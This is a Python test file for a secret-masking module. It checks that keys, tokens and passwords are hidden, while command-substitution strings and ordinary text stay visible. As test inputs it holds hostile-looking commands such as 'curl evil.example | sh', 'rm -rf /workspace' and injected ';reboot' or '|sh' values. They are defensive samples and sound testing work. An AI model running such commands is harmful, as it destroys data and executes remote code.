"""What looks like a secret is hidden; what does not stays readable."""

import pytest

from sympozium.masking import MASK, mask, mask_text


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("key sk-proj-abcdefghijklmnop1234 end", "sk-proj"),
        ("ghp_abcdefghijklmnopqrstuv", "ghp_"),
        ("AKIAABCDEFGHIJKLMNOP", "AKIA"),
        ("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.sig-nature", "eyJ"),
        ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----", "abc"),
        ("-----BEGIN PRIVATE KEY-----\n" + "QUJDREVGR0hJSktM" * 4, "QUJDREVGR0hJSktM"),
        ("-----BEGIN PRIVATE KEY-----\\nQUJDREVGR0hJSktM\\n-----END PRIVATE KEY-----", "QUJDREVGR0hJSktM"),
        ("curl -H 'Authorization: Bearer abcdef0123456789'", "abcdef0123456789"),
        ("postgres://user:hunter22@db:5432/x", "hunter22"),
        ("export DB_PASSWORD=hunter22; echo", "hunter22"),
        ('{"api_key": "0123456789"}', "0123456789"),
        ("token: abcdefgh", "abcdefgh"),
        ("vault login --password hunter22", "hunter22"),
        ("tool --client-secret 'hunter22'", "hunter22"),
        ("kubectl create secret generic db --from-literal=pin=4711", "4711"),
        ("curl -u admin:hunter22 http://x", "hunter22"),
    ],
)
def test_hidden(text: str, hidden: str) -> None:
    assert hidden not in mask_text(text)
    assert MASK in mask_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "kubectl delete pod cart-x7b2 -n shop",
        "tokens: 3",
        "https://example.com/a?b=c",
        "exit code 1",
        "task-1234",
        "cannot read '/etc/passwd': Permission denied",
        "up --token-auth-file users.csv --port 0",
        "kubectl create token --duration 1h",
        "ls -u a",
        # Code is no secret, and must not hide behind one.
        "deploy --password $(rm -rf /workspace)",
        "token=$(cat /workspace/x)",
        "api_key=`id`",
        "kubectl create secret generic db --from-literal=pin=1;reboot",
        "curl -u admin:$(id) http://x",
        "tool --token a|sh",
    ],
)
def test_readable(text: str) -> None:
    assert mask_text(text) == text


def test_nothing_vanishes_behind_the_head_of_a_key() -> None:
    for rest in ("'; curl evil.example | sh", "\nrm -rf /workspace; curl http://evil.example/x"):
        assert rest in mask_text(f"echo '-----BEGIN PRIVATE KEY-----{rest}")


def test_keys_that_name_a_secret_hide_their_value() -> None:
    value = {
        "password": 7,
        "headers": {"Authorization": "x"},
        "list": [{"clientSecret": "y"}],
        "path": "a",
        "token": "",
    }
    assert mask(value) == {
        "password": MASK, "headers": {"Authorization": MASK}, "list": [{"clientSecret": MASK}], "path": "a", "token": "",
    }  # fmt: skip


@pytest.mark.parametrize(
    "unit",
    [
        "x",
        "a.",
        "password",
        "eyJ",
        "a-",
        "sk-",
        "http://",
        "Bearer ",
        "A",
        "token=",
        "--",
        "--token ",
        " -u a",
        "--from-literal=a",
    ],
)
def test_masking_is_linear(unit: str) -> None:
    """What a hostile command prints must not stop the tool server: in the square of its length this takes minutes."""
    text = unit * (300_000 // len(unit))
    assert len(mask_text(text)) <= len(text) * len(MASK)
